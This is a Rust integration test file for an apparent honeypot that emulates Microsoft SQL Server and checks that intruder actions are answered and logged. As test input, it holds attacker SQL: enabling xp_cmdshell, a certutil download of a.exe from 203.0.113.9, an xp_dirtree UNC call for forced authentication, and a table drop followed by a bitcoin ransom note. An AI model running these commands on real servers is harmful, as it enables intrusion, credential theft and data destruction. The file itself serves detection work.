//! SQL Server over loopback with Debian's real client, and what is told of it.
#![allow(clippy::unwrap_used, reason = "what fails here fails the test")]
#![allow(clippy::disallowed_methods, reason = "the real client is a process")]
#![allow(clippy::print_stderr, reason = "a skip must be seen")]

use std::io::Write as _;
use std::process::{Command, Stdio};
use std::sync::Arc;

use decnet_core::identity::OsFamily;
use decnet_core::service::Port;
use decnet_logging::event::{Body, Outcome};
use decnet_logging::sink::MemorySink;
use decnet_services::testing;

/// A decky and its events; the address of 1433.
fn serve(family: OsFamily, seed: u64, version: &str, values: &[(&str, &str)]) -> (u16, Arc<MemorySink>) {
    let identity = testing::identity(family, seed, &[("mssql", "mssql", version, "")]);
    let host = testing::host(testing::decky(identity, seed, &[("mssql", values)]));
    let (addresses, sink) = testing::serve_on_loopback(&host, "mssql");
    (addresses[&Port::tcp(1433)].port(), sink)
}

/// Runs batches with tsql of freetds-bin; `None` without it, which is a failure where everything is required.
async fn tsql(port: u16, user: &str, password: &str, version: &str, batches: &str) -> Option<String> {
    let (user, password, version) = (user.to_owned(), password.to_owned(), version.to_owned());
    let input = batches.to_owned();
    tokio::task::spawn_blocking(move || {
        let child = Command::new("timeout")
            .args(["30", "tsql", "-H", "127.0.0.1", "-p", &port.to_string(), "-U", &user, "-P", &password])
            .env("TDSVER", version)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn();
        let found = Command::new("tsql").arg("-C").output().is_ok();
        if !found {
            assert_ne!(
                std::env::var("DECNET_TEST_REQUIRE").as_deref(),
                Ok("all"),
                "tsql is missing: freetds-bin"
            );
            eprintln!("skipped: tsql is missing (freetds-bin)");
            return None;
        }
        let mut child = child.unwrap();
        child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
        let output = child.wait_with_output().unwrap();
        Some(format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        ))
    })
    .await
    .unwrap()
}

#[tokio::test]
async fn tsql_logs_in_and_reads_in_every_version_of_the_protocol() {
    let (port, _) =
        serve(OsFamily::Windows, 3, "15.0.4375.4", &[("users", "sa:Passw0rd!"), ("databases", "crm")]);
    for version in ["7.0", "7.1", "7.2", "7.3", "7.4"] {
        let said = tsql(
            port,
            "sa",
            "Passw0rd!",
            version,
            "select @@version\ngo\nselect 1 as a, 'b' as b select cast(1.5 as decimal(10,2)) as d\ngo\n\
             select name from sys.databases where database_id < 3\ngo\nselect top 1 * from nosuch\ngo\nexit\n",
        )
        .await;
        let Some(said) = said else { return };
        for wanted in [
            "Microsoft SQL Server 2019 (RTM-CU27) (KB5037331) - 15.0.4375.4 (X64)",
            "a\tb\n1\tb\n",
            "d\n1.50\n",
            "name\nmaster\ntempdb\n",
            "Msg 208 (severity 16, state 1) from SRV-TEST-03 Line 1:\n\t\"Invalid object name 'nosuch'.\"",
        ] {
            assert!(said.contains(wanted), "{version}: {wanted}\n{said}");
        }
    }
}

#[tokio::test]
async fn a_wrong_password_is_refused_and_told_in_clear() {
    for encrypt in ["off", "on"] {
        let (port, sink) = serve(OsFamily::Windows, 4, "16.0.4135.4", &[("encrypt", encrypt)]);
        let Some(said) = tsql(port, "sa", "Summer2026", "7.4", "exit\n").await else { return };
        assert!(said.contains("Msg 18456 (severity 14, state 1) from SRV-TEST-04 Line 1:"), "{said}");
        assert!(said.contains("Login failed for user 'sa'."), "{said}");
        let told = sink.reports().into_iter().any(|report| {
            matches!(&report.body, Body::AuthAttempt { credential, outcome: Outcome::Failed }
                if credential.username == "sa" && credential.password.as_deref() == Some("Summer2026"))
        });
        assert!(told, "{encrypt}: {:?}", sink.reports());
        assert!(
            sink.reports()
                .iter()
                .any(|report| matches!(&report.body, Body::TlsHello { completed: true, .. }))
        );
    }
}

#[tokio::test]
async fn the_shell_is_shut_until_it_is_opened_and_everything_is_told() {
    let (port, sink) = serve(OsFamily::Windows, 5, "15.0.4375.4", &[("users", "sa:x"), ("databases", "hr")]);
    let Some(said) = tsql(port, "sa", "x", "7.4", "exec xp_cmdshell 'whoami'\ngo\nexit\n").await else {
        return;
    };
    assert!(said.contains("Msg 15281 (severity 16, state 1)"), "{said}");
    let opened = "exec sp_configure 'show advanced options', 1 reconfigure exec sp_configure 'xp_cmdshell', 1 reconfigure\n\
                  go\nexec xp_cmdshell 'whoami & hostname'\ngo\n\
                  exec xp_cmdshell 'certutil -urlcache -f http://203.0.113.9/a.exe C:\\Temp\\a.exe'\ngo\n\
                  exec master..xp_dirtree '\\\\203.0.113.9\\share'\ngo\nexit\n";
    let said = tsql(port, "sa", "x", "7.4", opened).await.unwrap();
    assert!(said.contains("Configuration option 'xp_cmdshell' changed from 0 to 1."), "{said}");
    assert!(said.contains("output\nnt service\\mssqlserver\nSRV-TEST-05\nNULL\n"), "{said}");
    let bodies: Vec<Body> = sink.reports().into_iter().map(|report| report.body).collect();
    let exploit = |wanted: &str| {
        bodies.iter().any(|body| matches!(body, Body::ExploitAttempt { name, .. } if name == wanted))
    };
    assert!(exploit("mssql.xp_cmdshell") && exploit("mssql.forced_authentication"), "{bodies:?}");
    let fetched = |wanted: &str| {
        bodies.iter().any(|body| matches!(body, Body::FileDownload { url: Some(url), .. } if url == wanted))
    };
    assert!(fetched("http://203.0.113.9/a.exe"), "{bodies:?}");
}

#[tokio::test]
async fn what_an_intruder_changes_lasts_and_a_ransom_note_is_one_story() {
    let (port, sink) =
        serve(OsFamily::Windows, 6, "14.0.3465.1", &[("users", "sa:x"), ("databases", "shop")]);
    let ask = "select name from sys.databases where database_id = 5\ngo\nexit\n";
    let Some(said) = tsql(port, "sa", "x", "7.4", ask).await else { return };
    let name = said.lines().skip_while(|line| !line.ends_with("name")).nth(1).unwrap().to_owned();
    let attack = format!(
        "use {name}\ngo\nselect top 1 * from customers\ngo\ndrop table customers\ngo\ncreate table README (note nvarchar(400))\n\
         insert into README values (N'Pay 0.02 BTC (bitcoin) to recover your data')\ngo\nexit\n"
    );
    tsql(port, "sa", "x", "7.4", &attack).await.unwrap();
    let after = format!("use {name}\ngo\nselect note from README\ngo\nselect * from customers\ngo\nexit\n");
    let said = tsql(port, "sa", "x", "7.4", &after).await.unwrap();
    assert!(said.contains("Pay 0.02 BTC") && said.contains("Invalid object name 'customers'."), "{said}");
    let bodies: Vec<Body> = sink.reports().into_iter().map(|report| report.body).collect();
    assert!(
        bodies
            .iter()
            .any(|body| matches!(body, Body::BaitTouched { bait, .. } if bait.ends_with("customers")))
    );
    assert!(
        bodies.iter().any(|body| matches!(body, Body::ExploitAttempt { name, .. } if name == "ransom.note"))
    );
    assert!(
        bodies.iter().any(|body| matches!(body, Body::FileUpload { name, .. } if name == "ransom-note.sql"))
    );
}

#[tokio::test]
async fn every_persona_key_changes_the_wire() {
    let values =
        [("users", "sa:x"), ("server_name", "ERP-DB"), ("instance", "SQLEXPRESS"), ("mssql_version", "2022")];
    let (port, _) = serve(OsFamily::Windows, 7, "15.0.4375.4", &values);
    let ask =
        "select @@servername as s, @@servicename as i, serverproperty('ProductVersion') as v\ngo\nexit\n";
    let Some(said) = tsql(port, "sa", "x", "7.4", ask).await else { return };
    assert!(said.contains("ERP-DB\\SQLEXPRESS\tSQLEXPRESS\t16.0.4175.1"), "{said}");
}
